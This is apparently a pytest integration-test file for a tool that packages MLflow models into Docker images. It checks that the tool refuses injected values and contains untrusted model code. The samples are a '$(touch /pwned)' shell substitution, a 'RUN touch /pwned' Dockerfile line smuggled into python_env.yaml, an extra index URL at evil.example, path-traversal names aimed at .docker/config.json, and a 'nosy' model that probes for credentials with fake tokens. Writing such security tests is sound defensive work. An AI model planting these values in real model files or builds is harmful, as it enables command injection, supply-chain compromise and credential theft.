        (), ("MLmodel", "loader_module: mlflow.sklearn", "loader_module: $(touch /pwned)"),
        "its MLmodel gives flavors.python_function.loader_module: '$(touch /pwned)'",
    ),
    "python_env python": (
        (), ("python_env.yaml", "python: ", "python: \"3.11-slim\\nRUN touch /pwned\"\n#"),
        "its python_env.yaml gives python: '3.11-slim\\nRUN touch /pwned'",
    ),
    "requirements option": (
        (), ("requirements.txt", "mlflow", "--extra-index-url https://evil.example/simple\nmlflow"),
        "its requirements.txt has the line '--extra-index-url https://evil.example/simple'",
    ),
    "serving example path": (
        (), ("MLmodel", "serving_input_path: serving_input_example.json",
             "serving_input_path: ../../../.docker/config.json"),
        "serving_input_path: '../../../.docker/config.json', which is not a path inside",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", INJECTIONS)
def test_injection_into_the_build_is_refused_before_anything_is_built(
    docker_client: Any, iris_model: Path, workdir: Path, case: str
) -> None:
    flags, edit, named = INJECTIONS[case]
    model = _copy_model(iris_model, workdir / "model")
    if edit:
        _edit(model, *edit)
    repository = "it-injection"
    args = ("package", "--model-uri", str(model), "--repository", repository, *flags)
    for dry in ((), ("--dry-run",)):
        done = mlsteps(*dry, "--json", *args, cwd=workdir, env=private_tmp(workdir))
        assert done.returncode == 2, (dry, done.stderr[-2000:])
        error = json.loads(done.stdout)["error"]
        assert named in error, error
        assert "Traceback" not in done.stderr and "Step 1/" not in done.stderr
    # Refused before the engine was asked for anything: no image, no build container.
    assert not docker_client.images.list(name=repository)
    assert not docker_client.images.list(
        filters={"label": f"org.opencontainers.image.title={repository}"}
    )
    _assert_clean(docker_client, workdir)


def test_an_s3_key_that_leads_out_of_the_model_directory_is_refused(
    moto_server: Any, iris_model: Path, workdir: Path
) -> None:
    """Against moto (the AWS emulator): S3 keys are any string, and whoever can write the
    model's prefix chose them; a ../ key was downloaded to wherever it pointed."""
    import boto3

    env = moto_server.env()
    s3 = boto3.client("s3", endpoint_url=moto_server.url, region_name=moto_server.region,
                      aws_access_key_id="testing", aws_secret_access_key="testing")  # fmt: skip
    s3.create_bucket(Bucket="it-package-traversal")
    for path in iris_model.rglob("*"):
        if path.is_file():
            key = f"model/{path.relative_to(iris_model).as_posix()}"
            s3.put_object(Bucket="it-package-traversal", Key=key, Body=path.read_bytes())
    # From the download directory (TMPDIR/mlsteps-package-*/model), three levels up: workdir.
    s3.put_object(Bucket="it-package-traversal", Key="model/../../../escaped.txt", Body=b"x")
    done = package(
        "--model-uri", "s3://it-package-traversal/model", "--repository", "it-traversal",
        cwd=workdir, env=env,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr[-2000:]
    error = json.loads(done.stdout)["error"]
    assert "'../../../escaped.txt', a name that leads out of the model's directory" in error
    assert not (workdir / "escaped.txt").exists()
    assert temp_left(workdir) == []


def test_a_base_image_that_cannot_be_pulled_is_named_as_such(
    docker_client: Any, iris_model: Path, registry: str, workdir: Path
) -> None:
    base = f"{registry}/it-no-such-base:3.11"
    done = package(
        "--model-uri", str(iris_model), "--repository", "it-no-base", "--base-image", base,
        cwd=workdir,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr[-2000:]
    error = json.loads(done.stdout)["error"]
    assert f"the base image {base} (--base-image) could not be pulled" in error
    assert "requirements" not in error
    assert "\x1b" not in done.stdout + done.stderr
    assert not docker_client.images.list(name="it-no-base")
    _assert_clean(docker_client, workdir)


def test_register_true_without_a_registry_is_refused(
    docker_client: Any, mlflow_server: Any, quickstart_models: list[str], workdir: Path
) -> None:
    """Registering tags the version with the pushed image's digest: asked for without a push,
    it is refused (run and dry run alike); left to its default, a build-only run says that
    nothing is registered."""
    name = "it-package-no-registry"
    args = ("package", "--model-uri", quickstart_models[0], "--tracking-uri", mlflow_server.uri,
            "--name", name, "--repository", "it-no-registry")  # fmt: skip
    for dry in ((), ("--dry-run",)):
        done = mlsteps(*dry, "--json", *args, "--register", "true", cwd=workdir)
        assert done.returncode == 2, done.stderr[-2000:]
        error = json.loads(done.stdout)["error"]
        assert "--register true (flag --register)" in error and "give --registry" in error
    done = mlsteps("--dry-run", "--json", *args, cwd=workdir)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "nothing is registered: without --registry" in done.stderr
    assert versions(mlflow_server.uri, name) == []
    assert not docker_client.images.list(name="it-no-registry")


def test_a_server_that_crashes_fails_the_smoke_test(
    docker_client: Any, iris_model: Path, registry: str, workdir: Path
) -> None:
    model = _copy_model(iris_model, workdir / "model")
    (model / "model.skops").write_bytes(b"not a model")
    done = package(
        "--model-uri", str(model), "--repository", "it-crash", "--registry", registry,
        "--smoke-timeout", "60s", cwd=workdir,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    error = json.loads(done.stdout)["error"]
    assert "smoke test" in error and "exited" in error and "log" in error
    assert json.loads(done.stdout)["outputs"] == {}
    # Not pushed, and no local tag left to push by mistake.
    tags = requests.get(f"http://{registry}/v2/it-crash/tags/list", timeout=10)
    assert tags.status_code == 404 or not any(
        t.startswith("model-") for t in tags.json().get("tags") or []
    )
    assert not [
        t for i in docker_client.images.list(name="it-crash") for t in i.tags if ":model-" in t
    ]
    _assert_clean(docker_client, workdir)


def test_registry_down(
    docker_client: Any, iris_model: Path, mlflow_server: Any, workdir: Path
) -> None:
    down = f"127.0.0.1:{free_port()}"
    done = package(
        "--model-uri", str(iris_model), "--repository", "it-down", "--registry", down,
        "--smoke-test", "false", cwd=workdir,
    )  # fmt: skip
    assert done.returncode == 1
    error = json.loads(done.stdout)["error"]
    assert f"cannot reach the registry {down}" in error and "running" in error
    _assert_clean(docker_client, workdir)


def test_wrong_registry_credentials(
    docker_client: Any, iris_model: Path, auth_registry: Any, workdir: Path
) -> None:
    wrong = "wrong-" + auth_registry.password
    done = package(
        "--model-uri", str(iris_model), "--repository", "it-auth", "--registry",
        auth_registry.address, "--registry-username", auth_registry.username,
        "--smoke-test", "false", cwd=workdir,
        env={"MLSTEPS_PACKAGE_REGISTRY_PASSWORD": wrong},
    )  # fmt: skip
    assert done.returncode == 1
    error = json.loads(done.stdout)["error"]
    assert f"the registry {auth_registry.address} refused the credentials" in error
    assert "--registry-username" in error
    assert wrong not in done.stdout + done.stderr
    _assert_clean(docker_client, workdir)

    # And the right password pushes (the same path, so the refusal above meant the password).
    # --load false: a machine that only ships images keeps none of them afterwards.
    done = package(
        "--model-uri", str(iris_model), "--repository", "it-auth", "--registry",
        auth_registry.address, "--registry-username", auth_registry.username,
        "--smoke-test", "false", "--load", "false", cwd=workdir,
        env={"MLSTEPS_PACKAGE_REGISTRY_PASSWORD": auth_registry.password},
    )  # fmt: skip
    out = outputs_of(done)
    assert out["digest"].startswith("sha256:")
    assert auth_registry.password not in done.stdout + done.stderr
    assert not docker_client.images.list(name=f"{auth_registry.address}/it-auth")


def test_login_from_the_docker_config(
    docker_client: Any, iris_model: Path, auth_registry: Any, workdir: Path
) -> None:
    """No credentials given to mlsteps: the Docker config's login (what `docker login`
    writes) is used, as `docker push` would."""
    import base64

    config_dir = workdir / "docker-config"
    config_dir.mkdir()
    login = base64.b64encode(f"{auth_registry.username}:{auth_registry.password}".encode())
    (config_dir / "config.json").write_text(
        json.dumps({"auths": {auth_registry.address: {"auth": login.decode()}}})
    )
    done = package(
        "--model-uri", str(iris_model), "--repository", "it-docker-config", "--registry",
        auth_registry.address, "--smoke-test", "false", cwd=workdir,
        env={"DOCKER_CONFIG": str(config_dir)},
    )  # fmt: skip
    out = outputs_of(done)
    got = manifest(
        auth_registry.address, "it-docker-config", out["digest"],
        # bytes: requests would encode a str password as latin-1, the engine sends UTF-8
        auth=(auth_registry.username.encode(), auth_registry.password.encode()),
    )  # fmt: skip
    assert got.status_code == 200


def test_failed_push_registers_no_version(
    docker_client: Any, mlflow_server: Any, quickstart_models: list[str], workdir: Path
) -> None:
    name = "it-package-unpushed"
    done = package(
        "--model-uri", quickstart_models[0], "--registry", f"127.0.0.1:{free_port()}",
        "--tracking-uri", mlflow_server.uri, "--name", name, "--smoke-test", "false",
        cwd=workdir,
    )  # fmt: skip
    assert done.returncode == 1
    assert versions(mlflow_server.uri, name) == []


def test_dry_run_shows_the_dockerfiles_and_does_nothing(
    docker_client: Any, iris_model: Path, registry: str, workdir: Path
) -> None:
    done = mlsteps(
        "--dry-run", "--json", "package", "--model-uri", str(iris_model), "--registry",
        registry, "--repository", "it-dry", cwd=workdir,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    plan = json.loads(done.stdout)["plan"]
    kinds = [a["kind"] for a in plan]
    assert kinds == ["model.download", "image.dependencies", "image.build",
                     "image.smoke-test", "image.push"]  # fmt: skip
    deps = plan[1]
    assert (
        deps["dockerfile"].startswith("# mlsteps package")
        and "FROM python:3.11-slim" in deps["dockerfile"]
    )
    assert any(r.startswith("mlflow-skinny==") for r in deps["requirements"])
    assert deps["installer"].startswith("uv, fetched with the base's pip for the build step")
    assert "installed by uv, fetched with the base's pip" in deps["line"]
    assert f"{registry}/it-dry:deps-{deps['cache_key']}" == deps["image"]
    assert "FROM python:3.11-slim" in done.stderr  # the Dockerfile, printed for a person
    assert not docker_client.images.list(name="it-dry")
    assert not docker_client.images.list(name=f"{registry}/it-dry")
    assert requests.get(f"http://{registry}/v2/it-dry/tags/list", timeout=10).status_code == 404


def test_dry_run_lists_what_the_run_then_applies(
    docker_client: Any, iris_model: Path, workdir: Path
) -> None:
    args = ("package", "--model-uri", str(iris_model), "--repository", "it-fidelity")
    planned = mlsteps("--dry-run", "--json", *args, cwd=workdir)
    ran = mlsteps("--json", *args, cwd=workdir, timeout=900)
    assert ran.returncode == 0, ran.stderr[-2000:]
    kinds = [a["kind"] for a in json.loads(planned.stdout)["plan"]]
    assert json.loads(ran.stdout)["applied"] == kinds


def test_sigterm_during_the_smoke_test_leaves_nothing(
    docker_client: Any, iris_model: Path, workdir: Path
) -> None:
    import signal

    from tests.integration.test_train import start

    # The same model as the other tests: its dependencies image is cached, so the smoke test
    # comes within seconds.
    proc = start(
        "package", "--model-uri", str(iris_model), "--repository", "it-cancel", cwd=workdir,
        env=private_tmp(workdir),
    )  # fmt: skip
    assert proc.stdout is not None
    seen = []
    for line in proc.stdout:
        seen.append(line)
        if line.startswith("smoke test of"):
            break
    else:
        raise AssertionError("no smoke test line:\n" + "".join(seen) + proc.stderr.read())
    deadline = time.monotonic() + 60
    while not [
        c for c in docker_client.containers.list(filters={"name": "mlsteps-smoke-"})
        if c.labels.get("io.mlsteps.owner-pid") == str(proc.pid)
    ]:  # fmt: skip
        assert time.monotonic() < deadline, "the smoke-test container never started"
        time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err
    _assert_clean(docker_client, workdir)


def test_a_server_that_dies_answering_fails_with_its_log(
    docker_client: Any, iris_model: Path, workdir: Path
) -> None:
    """A server that answers /ping and then dies on the request (a segfault, an OOM kill):
    exit 1 with the log tail, no container, no tag left."""
    import sys

    import cloudpickle
    import mlflow
    import pandas as pd

    (workdir / "crashy_model.py").write_text(
        "import os\n"
        "import mlflow.pyfunc\n\n\n"
        "class Crashy(mlflow.pyfunc.PythonModel):\n"
        "    def predict(self, context, model_input, params=None):\n"
        "        if os.environ.get('MLSTEPS_MODEL_DIR') == '/opt/ml/model':  # in the image\n"
        "            print('crashy: dying on a request', flush=True)\n"
        "            os._exit(3)\n"
        "        return model_input\n"
    )
    sys.path.insert(0, str(workdir))
    try:
        import crashy_model  # type: ignore[import-not-found]

        cloudpickle.register_pickle_by_value(crashy_model)
        model = workdir / "crashy"
        mlflow.pyfunc.save_model(
            str(model),
            python_model=crashy_model.Crashy(),
            input_example=pd.DataFrame({"x": [1.0, 2.0]}),
            # The iris model's: its dependencies image is cached, so only a layer is built.
            pip_requirements=(iris_model / "requirements.txt").read_text().split(),
        )
    finally:
        sys.path.remove(str(workdir))
    done = package("--model-uri", str(model), "--repository", "it-crashy", cwd=workdir)
    assert done.returncode == 1, done.stderr
    error = json.loads(done.stdout)["error"]
    assert "/invocations gave no answer" in error and "crashy: dying on a request" in error
    # The rejected image is untagged; the dependencies image stays, as the cache it is.
    tags = [t for i in docker_client.images.list(name="it-crashy") for t in i.tags]
    assert tags and not [t for t in tags if ":model-" in t]
    _assert_clean(docker_client, workdir)


def test_the_models_code_runs_here_without_the_jobs_credentials(
    docker_client: Any, iris_model: Path, auth_registry: Any, workdir: Path
) -> None:
    """The host reference loads the model in a process of its own: a model whose code records
    its environment (loading and predicting) finds no credential of the packaging job in it."""
    import sys

    import cloudpickle
    import mlflow
    import pandas as pd

    record = workdir / "record"
    record.mkdir()
    (workdir / "nosy_model.py").write_text(
        model_probes.PROBES + "import json\n"
        "import mlflow.pyfunc\n\n\n"
        "class Nosy(mlflow.pyfunc.PythonModel):\n"
        "    def __init__(self, record, registry):\n"
        "        self.record, self.registry = record, registry\n\n"
        "    def _write(self, when):\n"
        "        try:  # the record's directory exists on the packaging machine only\n"
        "            with open(_os.path.join(self.record, when + '.json'), 'w') as out:\n"
        "                seen = {'env': dict(_os.environ), 'home': _os.path.expanduser('~'),\n"
        "                        'environs': environs(), 'reaches': reaches(self.registry),\n"
        "                        'docker': docker_sockets()}\n"
        "                json.dump(seen, out)\n"
        "        except OSError:\n"
        "            pass\n\n"
        "    def load_context(self, context):\n"
        "        self._write('load')\n\n"
        "    def predict(self, context, model_input, params=None):\n"
        "        self._write('predict')\n"
        "        return model_input\n"
    )
    sys.path.insert(0, str(workdir))
    try:
        import nosy_model  # type: ignore[import-not-found]

        cloudpickle.register_pickle_by_value(nosy_model)
        model = workdir / "nosy"
        mlflow.pyfunc.save_model(
            str(model),
            python_model=nosy_model.Nosy(str(record), auth_registry.address),
            input_example=pd.DataFrame({"x": [1.0, 2.0]}),
            # The iris model's: its dependencies image is cached, so only a layer is built.
            pip_requirements=(iris_model / "requirements.txt").read_text().split(),
        )
    finally:
        sys.path.remove(str(workdir))
    secrets = {
        "MLSTEPS_PACKAGE_REGISTRY_PASSWORD": auth_registry.password,
        "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7NOSYMODEL",
        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYnosymodelKEY",
        "AWS_SESSION_TOKEN": "FwoGZXIvYXdzEnosymodelSESSION",
        "MLFLOW_TRACKING_PASSWORD": "mlflow-nosy-model-password",
        "GITHUB_TOKEN": "ghp_nosymodel0123456789abcdef0123456789ab",
        "VAULT_TOKEN": "hvs.nosymodelvaulttoken",
        "MY_DEPLOY_KEY": "a-secret-no-deny-list-would-name",
    }
    done = package(
        "--model-uri", str(model), "--repository", "it-nosy", "--registry",
        auth_registry.address, "--registry-username", auth_registry.username, "--load", "false",
        cwd=workdir, env=secrets,
    )  # fmt: skip
    outputs_of(done)
    assert "computed on this machine" in done.stderr  # the host reference ran the model's code
    for when in ("load", "predict"):
        seen = json.loads((record / f"{when}.json").read_text())
        env = seen["env"]
        assert not set(secrets) & set(env), sorted(env)
        assert not [v for v in secrets.values() if v in json.dumps(env)]
        # What it was given (MLflow adds a _MLFLOW_… session id of its own when imported).
        given = {k for k in env if not k.startswith(("LC_", "_MLFLOW_"))}
        allowed = {"PATH", "LANG", "LANGUAGE", "TZ", "HOME", "TMPDIR", "TMP", "TEMP",
                   "PYTHONPATH", "PYTHONHASHSEED", "PYTHONUSERBASE", "OMP_NUM_THREADS",
                   "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"}  # fmt: skip
        assert given <= allowed | {"MLSTEPS_MODEL_DIR"}, sorted(given)
        # A home of its own (gone with the run's temporary files), not this user's.
        assert seen["home"] != str(Path.home()) and seen["home"].startswith(str(workdir / "tmp"))
        # Nor through /proc (the parent's environment, the runner's), the Docker socket or the
        # network (the registry on loopback; a cloud's metadata endpoint alike).
        model_probes.assert_contained(seen, list(secrets.values()))
    assert "without namespaces" not in done.stderr
    assert temp_left(workdir) == []
    _assert_clean(docker_client, workdir)


def test_a_half_registered_version_is_deleted(
    mlflow_server: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The version is created, then tagging it fails: it must not stay. A real server does
    not fail a set-tag on demand, so that one call is made to fail here; everything else is the
    real server (test_quickstart_model_is_served_… covers the same path succeeding)."""
    import mlflow
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    from steps.core.errors import StepFailed
    from steps.services.mlflow import model_source, model_versions
    from steps.services.mlflow.tracking import MlflowApiError, RestTracking

    x, y = load_iris(return_X_y=True, as_frame=True)
    mlflow.set_tracking_uri(mlflow_server.uri)
    mlflow.set_experiment("it-package-half")
    with mlflow.start_run() as run:
        mlflow.sklearn.log_model(LogisticRegression(max_iter=300).fit(x, y), name="model")
    ref = model_source.resolve(f"runs:/{run.info.run_id}/model", mlflow_server.uri)
    rest = RestTracking(mlflow_server.uri)
    real_call = RestTracking._call

    def failing_set_tag(self: Any, method: str, endpoint: str, **kwargs: Any) -> Any:
        if endpoint == "model-versions/set-tag":
            raise MlflowApiError(503, "TEMPORARILY_UNAVAILABLE", "the database went away")
        return real_call(self, method, endpoint, **kwargs)

    monkeypatch.setattr(RestTracking, "_call", failing_set_tag)
    tags = {model_versions.IMAGE_TAG: "r/x@sha256:1", model_versions.CONTENT_TAG: "k:1"}
    with pytest.raises(StepFailed, match="MLflow refused tagging version 1"):
        model_versions.register(rest, ref, "it-package-half", "sha256:1", tags)
    monkeypatch.undo()
    assert versions(mlflow_server.uri, "it-package-half") == []


def test_dry_run_lists_what_a_registering_run_applies(
    docker_client: Any, registry: str, mlflow_server: Any, quickstart_models: list[str],
    workdir: Path,
) -> None:  # fmt: skip
    args = (
        "package", "--model-uri", quickstart_models[1], "--registry", registry,
        "--tracking-uri", mlflow_server.uri, "--name", "it-package-fidelity", "--load", "false",
    )  # fmt: skip
    planned = mlsteps("--dry-run", "--json", *args, cwd=workdir)
    assert planned.returncode == 0, planned.stderr
    kinds = [a["kind"] for a in json.loads(planned.stdout)["plan"]]
    assert kinds[-2:] == ["mlflow.register", "image.unload"]
    assert versions(mlflow_server.uri, "it-package-fidelity") == []
    ran = mlsteps("--json", *args, cwd=workdir, env=private_tmp(workdir), timeout=900)
    assert json.loads(ran.stdout)["applied"] == kinds, ran.stderr[-2000:]


def test_a_fresh_machine_pulls_the_dependencies_image_from_the_registry(
    docker_client: Any, iris_model: Path, registry: str, workdir: Path
) -> None:
    """The dependencies image is pushed beside the model image; a machine without it in its
    engine pulls it (cache-hit) instead of building it."""
    args = ("--model-uri", str(iris_model), "--repository", "it-pull", "--registry", registry,
            "--smoke-test", "false")  # fmt: skip
    outputs_of(package(*args, cwd=workdir))
    plan = json.loads(mlsteps("--dry-run", "--json", "package", *args, cwd=workdir).stdout)
    key = plan["plan"][1]["cache_key"]
    # As on a machine that never built it: neither of its names is on the engine.
    for name in (f"mlsteps-deps:{key}", f"{registry}/it-pull:deps-{key}"):
        docker_client.images.remove(name)
    done = package(*args, cwd=workdir)
    assert outputs_of(done)["cache-hit"] == "true"
    assert f"dependencies image: pulled {registry}/it-pull:deps-{key}" in done.stderr
    assert docker_client.images.get(f"mlsteps-deps:{key}")  # the cache name is back
